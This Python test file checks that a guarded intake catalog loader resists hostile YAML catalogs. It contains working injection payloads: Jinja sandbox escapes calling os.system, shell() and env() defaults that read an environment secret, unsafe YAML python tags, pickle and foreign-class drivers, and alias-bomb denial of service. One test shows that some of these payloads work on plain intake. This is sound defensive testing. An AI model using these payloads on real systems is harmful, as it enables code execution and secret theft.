"""Catalogs that attack (R15): nothing they say is run, and no secret gets into what they name.

Every case is opened, listed, described and asked for each entry, with a canary that any command or
import would leave, and a secret in the environment. `test_these_attacks_work_on_intake_alone` shows
that some of them do harm where nobody looks first.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from intake.catalog import Catalog
from intake.readers.datatypes import BaseData
from intake.readers.readers import YAMLCatalogReader
from intake.source.base import DataSourceBase

from tests import servers
from xlsbc.cube.catalog import guard, guarded, open_catalog
from xlsbc.errors import SourceError

SECRET = "hunter2-of-the-environment"

FIRST = "metadata: {version: 1}\nsources:\n  a:\n    driver: zarr\n    args: {urlpath: x}\n"
SECOND = "version: 2\nmetadata: {}\naliases: {a: a, b: b}\nuser_parameters: {}\n"
ESCAPE = "cycler.__init__.__globals__.os.system('touch CANARY')"


def one(driver: str, args: str = "{urlpath: x}", more: str = "") -> str:
    """A version-1 catalog of one entry."""
    return (
        f"metadata: {{version: 1}}\nsources:\n  a:\n    driver: {driver}\n    args: {args}\n{more}"
    )


def parameter(default: str) -> str:
    """A version-1 catalog whose URL is a parameter's default."""
    more = f"    parameters:\n      p: {{description: d, type: str, default: {default}}}\n"
    return one("zarr", "{urlpath: 'https://example.org/{{ p }}'}", more)


def reader(name: str, kwargs: str, parameters: str = "{}", data: str = "{}") -> str:
    """A version-2 catalog of one entry."""
    return (
        "version: 2\nmetadata: {}\naliases: {a: a}\n"
        f"user_parameters: {parameters}\ndata: {data}\nentries:\n"
        f"  a: {{reader: '{name}', kwargs: {kwargs}, user_parameters: {{}}, metadata: {{}},"
        " output_instance: x}\n"
    )


XARRAY = "intake.readers.readers:XArrayDatasetReader"
DATA = (
    "{d: {datatype: 'intake.readers.datatypes:Zarr', kwargs: {url: URL}, metadata: {},"
    " user_parameters: {}}}"
)
PARAMETER = (
    "{p: {cls: 'intake.readers.user_parameters:BaseUserParameter', default: DEFAULT,"
    " description: d}}"
)

ATTACKS = {
    # version 1
    "shell as a default": parameter('"shell(touch CANARY)"'),
    "client_shell as a default": parameter('"client_shell(touch CANARY)"'),
    "env as a default": parameter('"env(XLSBC_SECRET)"'),
    "client_env as a default": parameter('"client_env(XLSBC_SECRET)"'),
    "shell in a template": one("zarr", "{urlpath: \"{{ shell('touch CANARY') }}\"}"),
    "env in a template": one("zarr", '{urlpath: "https://example.org/{{ env(XLSBC_SECRET) }}"}'),
    "env in storage options": one(
        "zarr", '{urlpath: x, storage_options: {key: "{{ env(XLSBC_SECRET) }}"}}'
    ),
    "attributes in a template": one("zarr", f'{{urlpath: "{{{{ {ESCAPE} }}}}"}}'),
    "attributes in the metadata": one(
        "zarr", more=f'    metadata: {{title: "{{{{ {ESCAPE} }}}}"}}\n'
    ),
    "a template in three braces": one("zarr", f'{{urlpath: "{{{{{{ {ESCAPE} }}}}}}"}}'),
    "a statement": one("zarr", f'{{urlpath: "{{% set x = {ESCAPE} %}}"}}'),
    "a template behind a harmless one": one(
        "zarr", f'{{urlpath: "{{{{ a }}}}{{{{ {ESCAPE} }}}}"}}'
    ),
    "cls": "metadata: {version: 1}\nsources:\n  a: {cls: os.system, args: ['touch CANARY']}\n",
    "plugins": FIRST + "plugins: {source: [{module: evil_module}]}\n",
    "a driver of another module": one("evil_module.Source"),
    "a driver that is os.system": one("os.system", "{command: touch CANARY}"),
    "a list of drivers": one("[zarr, evil_module.Source]"),
    "a mapping of drivers": one("{a: {class: evil_module.Source}}"),
    "a nested catalog with a shell": one(
        "yaml_file_cat", "{path: SELF, getshell: true, getenv: true}"
    ),
    "a nested catalog of text": one("yaml_file_cat", "{path: SELF, text: 'sources: {}'}"),
    "files by a pattern": one("yaml_files_cat", '{path: "FOLDER/*.yaml", getshell: true}'),
    "a catalog that nests itself": one("yaml_file_cat", '{path: "{{ CATALOG_DIR }}/attack.yaml"}'),
    "by another path": one(
        "yaml_file_cat", '{path: "{{ CATALOG_DIR }}/../{{ x }}FOLDERNAME/attack.yaml"}'
    ),
    "a YAML tag": FIRST + 'evil: !!python/object/apply:os.system ["touch CANARY"]\n',
    "a YAML tag of a name": FIRST + "evil: !!python/name:os.system\n",
    "aliases of aliases": "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
    + "".join(
        f"{y}: &{y} [{','.join([f'*{x}'] * 10)}]\n"
        for x, y in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + FIRST,
    "brackets without end": "[" * 100_000,
    # version 2
    "a reader that is os.system": reader("os:system", "{command: touch CANARY}"),
    "a reader of another module": reader("evil_module:Source", "{}"),
    "a pipeline": reader(
        "intake.readers.convert:Pipeline", "{steps: [['{func(os:system)}', [touch CANARY], {}]]}"
    ),
    "func in an argument": reader(XARRAY, "{data: x, preprocess: '{func(evil_module:Source)}'}"),
    "import in an argument": reader(
        XARRAY, "{data: x, preprocess: '{import(evil_module:Source)}'}"
    ),
    "pickle in an argument": reader(XARRAY, "{data: x, preprocess: '{pickle64(gASVIg==)}'}"),
    "env in an argument": reader(XARRAY, "{data: x, group: '{env(XLSBC_SECRET)}'}"),
    "env in a URL": reader(
        XARRAY,
        "{data: '{data(d)}'}",
        data=DATA.replace("URL", "'https://example.org/{env(XLSBC_SECRET)}'"),
    ),
    "env as a parameter": reader(
        XARRAY,
        "{data: '{data(d)}'}",
        PARAMETER.replace("DEFAULT", "'env(XLSBC_SECRET)'"),
        DATA.replace("URL", "'x/{p}'"),
    ),
    "func as a parameter": reader(
        XARRAY,
        "{data: '{data(d)}'}",
        PARAMETER.replace("DEFAULT", "'func(evil_module:Source)'"),
        DATA.replace("URL", "'x/{p}'"),
    ),
    "a parameter of another class": reader(
        XARRAY, "{data: x}", "{p: {cls: 'evil_module:Source', default: 1}}"
    ),
    "attributes in a URL": reader(
        XARRAY, "{data: '{data(d)}'}", data=DATA.replace("URL", "'x/{CATALOG_DIR.__class__}'")
    ),
    "storage options in a URL": reader(
        XARRAY,
        "{data: '{data(d)}'}",
        data=DATA.replace("URL", "'https://example.org/{STORAGE_OPTIONS}'"),
    ),
    "data of another class": reader(
        XARRAY,
        "{data: '{data(d)}'}",
        data=DATA.replace("intake.readers.datatypes:Zarr", "evil_module:Source").replace(
            "URL", "x"
        ),
    ),
    "data of itself": reader(XARRAY, "{data: '{data(a)}'}"),
    "data that are data": reader(
        XARRAY, "{data: '{data(d)}'}", data=DATA.replace("URL", "'{data(d)}'")
    ),
    "an entry of another class": SECOND
    + "data: {}\nentries:\n  a: {cls: 'evil_module:Source', reader: x, kwargs: {},"
    " user_parameters: {}, metadata: {}}\n",
    "a nested catalog of itself": reader(
        "intake.readers.readers:YAMLCatalogReader",
        "{data: '{data(d)}'}",
        data=DATA.replace(":Zarr", ":YAMLFile").replace("URL", "'{CATALOG_DIR}/attack.yaml'"),
    ),
}


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder with a module that leaves the canary when it is imported, and a secret."""
    (tmp_path / "evil_module.py").write_text(
        f"open({str(tmp_path / 'canary')!r}, 'w').close()\nclass Source:\n    container = 'x'\n"
    )
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.setenv("XLSBC_SECRET", SECRET)
    yield tmp_path
    sys.modules.pop("evil_module", None)


def written(place: Path, text: str) -> Path:
    path = place / "attack.yaml"
    text = text.replace("CANARY", str(place / "canary")).replace("FOLDERNAME", place.name)
    path.write_text(text.replace("SELF", str(path)).replace("FOLDER", str(place)))
    return path


def is_data(value: Any) -> bool:
    return isinstance(value, BaseData)


def survey(catalog: Any, depth: int = 0) -> Iterator[str]:
    """Everything that a catalog shows to who looks at each of its entries, nested ones too."""
    yield repr(catalog)
    for name in catalog:
        try:
            entry = catalog[name]
            held = vars(entry)  # not by attributes, which a reader reads
            inner = vars(held["reader"]) if "reader" in held else held
            yield repr(held) + repr(inner)
            yield from (repr(vars(v)) for v in inner.get("kwargs", {}).values() if is_data(v))
            yield from (repr(vars(v)) for v in inner.get("kwargs", {}).get("args", ()))
            if isinstance(entry, DataSourceBase):
                yield repr(entry.describe())
            nested = entry if isinstance(entry, Catalog) else None
            if isinstance(entry, YAMLCatalogReader):
                nested = entry.read()
            if nested is not None and depth < 40:
                yield from survey(nested, depth + 1)
        except SourceError as error:
            yield str(error)


@pytest.mark.proves("hostile-catalog")
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_runs_nothing_and_learns_nothing(place: Path, attack: str) -> None:
    path = written(place, ATTACKS[attack])
    try:
        said = "".join(survey(open_catalog(path)))
    except SourceError as error:
        said = str(error)
    assert not (place / "canary").exists()
    assert "evil_module" not in sys.modules
    assert SECRET not in said


def test_these_attacks_work_on_intake_alone(place: Path) -> None:
    """Else the tests above would show nothing."""
    code = (
        "import sys, warnings\nwarnings.simplefilter('ignore')\nimport intake\n"
        "catalog = intake.open_catalog(sys.argv[1])\n"
        "print([vars(catalog[name].reader.data) for name in catalog])\n"
    )
    for attack in ("attributes in a template", "plugins", "cls"):
        subprocess.run(
            [sys.executable, "-c", code, str(written(place, ATTACKS[attack]))],
            capture_output=True,
            cwd=place,
        )
        assert (place / "canary").exists(), attack
        (place / "canary").unlink()
    said = subprocess.run(
        [sys.executable, "-c", code, str(written(place, ATTACKS["env in a template"]))],
        capture_output=True,
        text=True,
    )
    assert SECRET in said.stdout


@pytest.mark.proves("hostile-catalog")
def test_the_rest_of_a_catalog_stays_in_use(place: Path) -> None:
    text = FIRST.replace("  a:\n", "  good:\n") + "  bad: {driver: evil_module.Source, args: {}}\n"
    catalog = open_catalog(written(place, text))
    assert list(catalog) == ["good", "bad"]
    assert catalog["good"].reader.data.url == "x"
    with pytest.raises(SourceError, match=r"entry 'bad' of .* is refused.*evil_module\.Source"):
        catalog["bad"]


@pytest.mark.proves("hostile-catalog")
def test_a_remote_catalog_opens_no_file_of_the_reader(place: Path, record_property) -> None:
    shop = place / "shop"
    shop.mkdir()
    (place / "private.yaml").write_text(f"sources: {{{SECRET}: {{}}}}\n")
    (shop / "attack.yaml").write_text(
        one("yaml_file_cat", f"{{path: 'file://{place}/private.yaml'}}")
        + f"  b: {{driver: yaml_file_cat, args: {{path: '{place}/private.yaml'}}}}\n"
        + f"  c: {{driver: yaml_file_cat, args: {{path: 'simplecache::file://{place}/private.yaml'}}}}\n"
        + "  d: {driver: zarr, args: {urlpath: 'file:///etc'}}\n"
    )
    with servers.files(shop) as address:
        catalog = open_catalog(f"{address}/attack.yaml")
        for name in "abc":
            with pytest.raises(SourceError, match="on this computer") as caught:
                catalog[name]
            assert SECRET not in str(caught.value)
        assert catalog["d"].reader.data.url == "file:///etc"  # named, not opened
    record_property("cases", 4)


@pytest.mark.proves("hostile-catalog")
def test_a_catalog_larger_than_any_is_not_read_to_its_end(place: Path, monkeypatch) -> None:
    monkeypatch.setattr(guard, "LARGEST", 100)
    with pytest.raises(SourceError, match="more than 100 bytes"):
        open_catalog(written(place, FIRST + "#" * 200))


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("{{ p }}/x", "v/x"),
        ("{{p}}", "v"),
        ("{{- p -}}.zarr", "v.zarr"),
        ("{{ p | upper }}", "V"),
        ("s3://b/{{ p }}/{{ p }}.zarr", "s3://b/v/v.zarr"),
        ("{{ CATALOG_DIR }}x", None),
        ("a{b}c", "a{b}c"),
    ],
)
def test_honest_templates_are_rendered(place: Path, text: str, url: str | None) -> None:
    more = "    parameters:\n      p: {description: d, type: str, default: v}\n"
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # intake warns of a shell at every text
        found = open_catalog(written(place, one("zarr", f"{{urlpath: '{text}'}}", more)))["a"]
    assert found.reader.data.url == (f"{place}/x" if url is None else url)


@pytest.mark.proves("hostile-catalog")
def test_a_server_that_never_answers_is_one_error_in_time(monkeypatch) -> None:
    monkeypatch.setattr(guarded, "TIME_LIMIT", 0.2)
    monkeypatch.setattr("time.sleep", lambda seconds: None)
    with socket.create_server(("127.0.0.1", 0)) as silent:
        port = silent.getsockname()[1]
        with pytest.raises(SourceError, match="there is no intake catalog at"):
            open_catalog(f"http://127.0.0.1:{port}/catalog.yaml")
